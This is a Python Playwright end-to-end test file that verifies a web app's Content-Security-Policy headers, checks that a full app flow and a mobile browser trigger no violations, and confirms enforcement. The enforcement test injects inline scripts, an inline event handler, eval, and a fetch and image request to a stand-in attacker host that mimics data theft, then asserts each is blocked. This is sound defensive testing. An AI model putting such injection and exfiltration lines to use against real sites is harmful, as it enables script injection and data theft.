"""The web app under its Content-Security-Policy (infra/hosting.py, docs/deploy.md).

The stack's web server sends the headers Firebase Hosting sends (dev/web_server.py),
with the policy made for this stack's functions and emulators. Every browser test
runs under it (a violation logs a console error, which fails any of them); these
check the header itself, walk the whole app with every violation recorded, show
that the policy is enforced, and that a mobile browser (where Firebase Auth would
load Google's gapi and an auth frame) stays within it too.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from typing import Any

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Frame, Page, Route, expect

from infra.hosting import content_security_policy, emulator_backends, parse_policy
from tests.e2e.conftest import TIMEOUT_MS, WebApp
from tests.e2e.helpers import DONE_MS, pdf_bytes, submit_brief, wait_completed

pytestmark = pytest.mark.e2e

# Every frame records the violations its document reports (init scripts run before
# the page's own, through the DevTools protocol: the policy does not apply to them).
RECORD_VIOLATIONS = """
window.__csp = [];
document.addEventListener('securitypolicyviolation', (event) => {
  window.__csp.push({
    directive: event.effectiveDirective,
    blocked: event.blockedURI,
    sample: event.sample,
    disposition: event.disposition,
  });
});
"""
CSP_CONSOLE = re.compile(r"Content[ -]Security[ -]Policy", re.IGNORECASE)
IPHONE = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
)


class Violations:
    """What a page's documents reported against the policy, and what the console said."""

    def __init__(self, page: Page) -> None:
        self.page = page
        self.console: list[str] = []
        page.context.add_init_script(script=RECORD_VIOLATIONS)
        page.on("console", self._console)

    def _console(self, message: ConsoleMessage) -> None:
        if CSP_CONSOLE.search(message.text):
            self.console.append(f"{message.type}: {message.text}")

    def reported(self) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = []
        for frame in self.page.frames:
            found += [{**v, "frame": frame.url} for v in _frame_violations(frame)]
        return found


def _frame_violations(frame: Frame) -> list[dict[str, Any]]:
    try:
        recorded: list[dict[str, Any]] = frame.evaluate("window.__csp ?? []")
    except Exception:  # a frame without scripts (the search suggestions' sandbox)
        return []
    return recorded


def stack_policy(stack_env: dict[str, str]) -> str:
    """The policy infra/hosting.py makes for this stack's backends."""
    return content_security_policy(
        emulator_backends(
            submit_url=stack_env["SUBMIT_URL"],
            status_url=stack_env["STATUS_URL"],
            auth_emulator_url=stack_env["AUTH_EMULATOR_URL"],
            firestore_emulator_host=stack_env["FIRESTORE_EMULATOR_HOST"],
            storage_emulator_host=stack_env["STORAGE_EMULATOR_HOST"],
        )
    )


def test_the_page_carries_the_policy_and_the_other_headers(
    web: WebApp, stack_env: dict[str, str]
) -> None:
    with web.page.expect_response(web.url) as answer:
        web.open()
    headers = answer.value.headers
    assert headers["content-security-policy"] == stack_policy(stack_env)
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["referrer-policy"] == "strict-origin-when-cross-origin"
    assert headers["x-frame-options"] == "DENY"
    policy = parse_policy(headers["content-security-policy"])
    assert policy["script-src"][0] == "'self'"
    assert not {"'unsafe-inline'", "'unsafe-eval'", "*", "data:"} & set(policy["script-src"])
    assert policy["object-src"] == ["'none'"]
    assert policy["base-uri"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'none'"]
    # The bundle and the stylesheet come with the policy's companions too.
    for path in ("/dist/app.js", "/styles.css"):
        asset = web.page.request.get(stack_env["WEB_URL"] + path)
        assert asset.ok, path
        assert asset.headers["x-content-type-options"] == "nosniff"
        assert asset.headers["cache-control"] == "no-cache"


def test_the_whole_app_runs_without_a_single_violation(
    new_web: Callable[..., WebApp], marker: str, stack_env: dict[str, str]
) -> None:
    """Sign-in (Auth emulator), the task listeners (Firestore emulator), a PDF through an
    upload session (PUT to the storage emulator), the submit, the live task, a
    grounded strategy with Google's search suggestions (their <style> in a srcdoc
    frame) and the preview image (fetched from task_status, shown as a blob: URL)."""
    app = new_web(config={"uploadThresholdBytes": 100_000})
    violations = Violations(app.page)
    page = app.open()
    requests: list[str] = []
    page.on("request", lambda request: requests.append(f"{request.method} {request.url}"))
    page.set_input_files(
        "#pdf",
        files=[{"name": "menu.pdf", "mimeType": "application/pdf", "buffer": pdf_bytes(200_000)}],
    )
    page.set_checked("#grounding", True)
    submit_brief(page, f"Tea room in Oradea under a strict policy ({marker})", image=True)
    wait_completed(page)

    # Every backend was reached: the upload session and its PUT, the submit, the image.
    assert any(r.startswith("PUT " + stack_env["STORAGE_EMULATOR_HOST"]) for r in requests)
    assert any(r == f"POST {stack_env['SUBMIT_URL']}/v1/uploads" for r in requests)
    assert any(r == f"POST {stack_env['SUBMIT_URL']}/v1/strategies" for r in requests)
    image = page.locator("#preview-img")
    expect(image).to_be_visible(timeout=DONE_MS)
    page.wait_for_function(
        "() => document.getElementById('preview-img').complete"
        " && document.getElementById('preview-img').naturalWidth > 0"
    )
    assert (image.get_attribute("src") or "").startswith("blob:")
    assert any(r.startswith(f"GET {stack_env['STATUS_URL']}/v1/tasks/") for r in requests)

    # Google's rendering, styled by its own <style> (the frame inherits the policy).
    expect(page.locator("#search-suggestions")).to_be_visible()
    chip = page.frame_locator("#search-suggestions-frame").locator(".chip")
    expect(chip).to_have_css("border-radius", "16px")

    page.wait_for_timeout(500)  # a late report has time to arrive
    assert violations.reported() == []
    assert violations.console == []
    assert app.errors == []


def test_the_policy_is_enforced(new_web: Callable[..., WebApp]) -> None:
    """What an injection would try is refused, and reported: an inline <script>, an
    inline event handler, eval, a request or an image anywhere else."""
    app = new_web()
    violations = Violations(app.page)
    page = app.open()
    outcome = page.evaluate(
        """async () => {
          const script = document.createElement('script');
          script.textContent = 'window.__injected = "script"';
          document.head.append(script);
          const button = document.createElement('button');
          button.setAttribute('onclick', 'window.__injected = "handler"');
          document.body.append(button);
          button.click();
          button.remove();
          // From a task of the page's own: code the DevTools protocol runs may eval.
          const evaluated = await new Promise((resolve) => setTimeout(() => {
            try { resolve(eval('"eval ran"')); } catch (error) { resolve(error.name); }
          }));
          let fetched;
          try { await fetch('https://attacker.example/steal'); fetched = 'sent'; }
          catch (error) { fetched = error.name; }
          const image = new Image();
          const loaded = new Promise((resolve) => {
            image.onload = () => resolve('loaded');
            image.onerror = () => resolve('refused');
          });
          image.src = 'https://attacker.example/pixel.png';
          return {injected: window.__injected ?? null, evaluated, fetched, image: await loaded};
        }"""
    )
    assert outcome == {
        "injected": None,
        "evaluated": "EvalError",
        "fetched": "TypeError",
        "image": "refused",
    }
    page.wait_for_function("() => window.__csp.length >= 5", timeout=TIMEOUT_MS)
    reported = {(v["directive"], v["blocked"]) for v in violations.reported()}
    assert reported >= {
        ("script-src-elem", "inline"),
        ("script-src-attr", "inline"),
        ("script-src", "eval"),
        ("connect-src", "https://attacker.example/steal"),
        ("img-src", "https://attacker.example/pixel.png"),
    }
    assert all(v["disposition"] == "enforce" for v in violations.reported())
    # The page's console said so; those errors are this test's own doing.
    assert app.errors and all(CSP_CONSOLE.search(error) for error in app.errors), app.errors
    app.errors.clear()


def test_a_mobile_browser_stays_within_the_policy(
    browser: Browser, stack_env: dict[str, str], web_config: dict[str, str], marker: str
) -> None:
    """Firebase Auth's getAuth() would start its popup/redirect machinery at once on
    mobile browsers and Safari (Google's gapi script, an auth frame): the app, which
    signs in anonymously only, leaves it out, so nothing is refused there either."""
    context = browser.new_context(
        user_agent=IPHONE, viewport={"width": 390, "height": 844}, is_mobile=True
    )
    context.set_default_timeout(TIMEOUT_MS)
    body = json.dumps(web_config)

    def answer_config(route: Route) -> None:
        route.fulfill(status=200, content_type="application/json", body=body)

    try:
        context.route("**/dist/config.json", answer_config)
        app = WebApp(context.new_page(), stack_env["WEB_URL"] + "/")
        violations = Violations(app.page)
        page = app.open()
        assert "iPhone" in page.evaluate("navigator.userAgent")
        submit_brief(page, f"Bakery in Arad on a phone ({marker})", image=False)
        wait_completed(page)
        page.wait_for_timeout(500)
        assert violations.reported() == []
        assert violations.console == []
        assert app.errors == []
    finally:
        context.close()
